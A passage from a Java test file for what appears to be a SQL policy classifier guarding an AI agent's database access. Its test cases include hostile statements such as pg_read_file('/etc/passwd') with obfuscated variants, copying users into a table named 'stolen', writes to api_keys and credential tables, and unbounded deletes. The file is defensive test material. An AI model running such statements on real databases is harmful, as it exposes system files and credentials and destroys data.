                pg("GRANT admin TO agent").type(GRANT).kind(ObjectKind.ROLE),
                h2("GRANT SELECT ON users TO bob").type(GRANT).kind(ObjectKind.TABLE),
                pg("REVOKE SELECT ON users FROM auditor").type(REVOKE).kind(ObjectKind.TABLE).unparseable(),

                // ---- writes to tables named like secrets (the policy matches tablesWritten)
                pg("INSERT INTO api_keys (k) VALUES ('x')").type(INSERT).written("public.api_keys"),
                pg("UPDATE user_credentials SET hash = 'x' WHERE id = 1").type(UPDATE)
                        .written("public.user_credentials").updated("public.user_credentials.hash"),
                my("REPLACE INTO secret_store (k, v) VALUES ('a', 'b')").type(INSERT).written("secret_store"),
                my("REPLACE INTO api_keys VALUES (1, 'replaced')").type(INSERT).written("api_keys").read(),
                my("REPLACE api_keys SET k = 'x'").type(INSERT).written("api_keys"),
                pg("SELECT * INTO api_keys_backup FROM t").type(CREATE).kind(ObjectKind.TABLE)
                        .written("public.api_keys_backup").read("public.t"),
                pg("DELETE FROM oauth_tokens WHERE id = 1").type(DELETE).written("public.oauth_tokens"),
                pg("WITH x AS (UPDATE \"Secrets\" SET v = 'x' WHERE id = 1 RETURNING 1) SELECT 1").type(UPDATE)
                        .written("public.secrets"),

                // ---- DDL classified by what it does
                h2("CALL my_proc(1)").type(CALL).functions("my_proc"),
                pg("CREATE TABLE evil AS SELECT * FROM users").type(CREATE).written("public.evil")
                        .read("public.users"),
                pg("ALTER TABLE users DROP COLUMN email").type(ALTER).kind(ObjectKind.TABLE).written("public.users"),
                pg("CREATE INDEX i ON users (email)").type(CREATE).kind(ObjectKind.INDEX).written("public.users"),
                pg("DROP TABLE IF EXISTS a, b").type(DROP).written("public.a", "public.b").unparseable(),
                pg("DROP VIEW v").type(DROP).kind(ObjectKind.VIEW).written("public.v"),
                pg("SELECT * INTO stolen FROM users").type(CREATE).kind(ObjectKind.TABLE).written("public.stolen")
                        .read("public.users"),
                pg("EXPLAIN ANALYZE DELETE FROM t").type(DELETE).written("public.t").unbounded(),
                pg("DELETE FROM ONLY t").type(DELETE).written("public.t").unbounded(),
                pg("UPDATE ONLY t SET a = 1 WHERE 1 = 1").type(UPDATE).written("public.t").unbounded(),
                pg("SELECT U&\"\\0070g_read_file\"('x')").type(OTHER).hazards(SERVER_FILE),
                pg("SELECT pg_read_file/**/('/etc/passwd')").type(OTHER).hazards(SERVER_FILE),
                pg("INSERT INTO t VALUES (pg_read_file('/etc/passwd'))").type(INSERT).hazards(SERVER_FILE),
                pg("CREATE TABLE t2 AS SELECT pg_read_file('x')").type(CREATE).written("public.t2").hazards(SERVER_FILE),
                pg("SELECT * FROM users WHERE id = 1 UNION SELECT * FROM api_keys").type(SELECT)
                        .read("public.users", "public.api_keys"),
                pg("WITH t AS (SELECT * FROM secrets) SELECT * FROM t").type(SELECT).read("public.secrets"),
                pg("DELETE FROM t WHERE (SELECT 1) = 1").type(DELETE).unbounded(),
                my("DELETE FROM t WHERE id = 1 OR 1").type(DELETE).unbounded(),
                pg("SELECT\u2003pg_read_file('x')").type(OTHER).unparseable().hazards(SERVER_FILE));
    }
}
